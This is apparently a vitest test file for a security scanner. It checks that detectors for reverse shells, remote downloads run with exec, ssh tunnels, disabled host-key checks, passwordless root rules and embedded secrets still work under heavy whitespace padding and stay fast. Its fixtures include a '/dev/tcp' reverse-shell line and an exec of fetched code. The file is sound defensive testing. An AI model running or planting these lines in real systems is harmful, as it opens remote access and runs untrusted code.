import { describe, expect, test } from "vitest";
import { rightsGivenBy } from "#containment/planted-files.ts";
import { debuggerIn, remoteAccessIn, remoteShellIn } from "#containment/remote-shells.ts";
import { textsInFirstBootData } from "#policies/lib/cloud-init-secrets.ts";
import { composeFilesIn } from "#policies/lib/compose-containers.ts";
import { instructionsOf } from "#policies/lib/dockerfile-commands.ts";
import { downloadsIn } from "#policies/lib/downloads-in-code.ts";
import { weakSettingsIn } from "#policies/lib/host/kernel-settings.ts";
import { rootIn } from "#policies/lib/host/root-grants.ts";
import { plantedIn } from "#policies/lib/host/run-by-itself.ts";
import { uncheckedKeys } from "#policies/lib/host-keys.ts";
import { instanceFlaws } from "#policies/lib/instance-flaws.ts";
import { passwordLoginsIn } from "#policies/lib/password-logins.ts";
import { commandsOfUnit } from "#policies/lib/scripts/file-kinds.ts";
import { hideSecrets, secretsInText } from "#policies/lib/secret-patterns.ts";
import { secretInJson } from "#policies/lib/secrets-in-json.ts";
import { readScript } from "#policies/lib/shell/read-script.ts";
import { joined } from "#policies/lib/shell/script.ts";

const secret = "hunter2Correct!horse";
const random = "Zk3vQ9xT7bLm2RpW8sYc";

/** What is asked of a text in which `~` is a blank that may be many. */
const WAYS: readonly (readonly [name: string, text: string, found: (text: string) => boolean])[] = [
  ["a key of a host", "StrictHostKeyChecking~=~no", (text) => uncheckedKeys(text).length > 0],
  [
    "a host's unit",
    "~ExecStart~=~/bin/sh -c x\n",
    (text) => commandsOfUnit("/etc/systemd/system/a.service", text) !== "",
  ],
  ["sshd's passwords", "PasswordAuthentication~yes\n", (text) => passwordLoginsIn(text).length > 0],
  ["a user's password", "users:\n~plain_text_passwd~: x\n", (text) => passwordLoginsIn(text).length > 0],
  [
    "a kernel's setting",
    "~kernel.randomize_va_space~=~0\n",
    (text) => weakSettingsIn({ path: "/etc/sysctl.conf", text }).length > 0,
  ],
  ["a job", "~*~*~*~*~*~root~/tmp/x\n", (text) => plantedIn({ path: "/etc/cron.d/x", text }).length > 0],
  [
    "an instance",
    "incus config set x security.privileged~=~true",
    (text) => instanceFlaws(readScript(text)).length > 0,
  ],
  ["a rule of doas", "~permit~nopass~alice\n", (text) => rootIn({ path: "/etc/doas.conf", text }, "host").length > 0],
  ["an assignment", `password~=~"${secret}"`, (text) => secretsInText(text).length > 0],
  ["an option", `--password~${secret}`, (text) => secretsInText(text).length > 0],
  ["a variable", "~export~POSTGRES_PASSWORD=postgres~\n", (text) => secretsInText(text).length > 0],
  ["a directive", `~requirepass~${secret}~\n`, (text) => secretsInText(text).length > 0],
  ["a connection", "Server~=~db;~Password~=~abc1", (text) => secretsInText(text).length > 0],
  ["a header", `Authorization~:~Bearer~${random}`, (text) => secretsInText(text).length > 0],
  ["a document", `~{"password":"${secret}"}`, (text) => secretInJson(text) !== undefined],
  [
    "short base64",
    `${Buffer.from("pw: hunter2").toString("base64").replace("=", "")}~`,
    (text) => textsInFirstBootData(text).texts.length > 1,
  ],
  ["an instruction", "~RUN~curl x", (text) => instructionsOf(text)[0]?.rest === "curl x"],
  [
    "a variable of a container",
    "services:\n  a:\n    image: x\n    environment: ['A:~b']\n",
    (text) => JSON.stringify(composeFilesIn(text)).includes('"A=b"'),
  ],
  [
    "a program that runs a download",
    `exec(~urlopen('http://x.example/a').read())~`,
    (text) => downloadsIn({ language: "python", text, stdin: joined([]) }).length > 0,
  ],
  ["a remote shell", "sh~-i >& /dev/tcp/198.51.100.1/9", (text) => remoteShellIn(text) !== undefined],
  ["a tunnel", "ssh~-N~-R 9:localhost:22 x", (text) => remoteAccessIn(text) !== undefined],
  ["a debugger", "~--inspect=0.0.0.0:9229", (text) => debuggerIn(text) !== undefined],
  ["setuid", "chmod~-v~4755 /x", (text) => rightsGivenBy(text) !== undefined],
];

describe("more blanks than anybody types hide nothing", () => {
  test.each(WAYS)("in %s", (_, text, found) => {
    for (const blanks of [" ", "   ", "\t\t", " ".repeat(150), "\t ".repeat(400)]) {
      expect(found(text.replaceAll("~", blanks)), JSON.stringify(blanks)).toBe(true);
    }
  });

  test("and empty lines neither", () => {
    expect(uncheckedKeys(`StrictHostKeyChecking${"\n".repeat(50)}no`)).toEqual(["StrictHostKeyChecking=no"]);
  });
});

test("a secret is told where it stands, however many blanks are before and in it", () => {
  const blanks = " \t".repeat(40);
  const text = `a:${blanks}b\n\n\n${blanks}password${blanks}=${blanks}"${secret}${blanks}x"\n\n${blanks}tail token: ${random}\n`;
  const told = secretsInText(text).map(({ offset, length }) => text.slice(offset, offset + length));
  expect(told).toEqual([`${secret}${blanks}x`, random]);
  expect(hideSecrets(text)).not.toMatch(/hunter2|Zk3v/);
  expect(hideSecrets(text)).toContain(`\n\n${blanks}tail token: <`);
});

describe("a text of nothing but blanks is read at once", () => {
  const fillings = [" ", "\n", "\t", " \n", "\n ", "\r\n", "\u2028"].map((one) => one.repeat(100_000 / one.length));
  test.each(WAYS)("by what looks for %s", (_, text, found) => {
    for (const blanks of fillings) {
      const started = performance.now();
      found(text.replaceAll("~", blanks).replace(/\w$/, ""));
      found(`x${blanks}y`);
      // Quadratic, it would take more than ten seconds.
      expect(performance.now() - started, JSON.stringify(blanks.slice(0, 2))).toBeLessThan(1500);
    }
  });
});
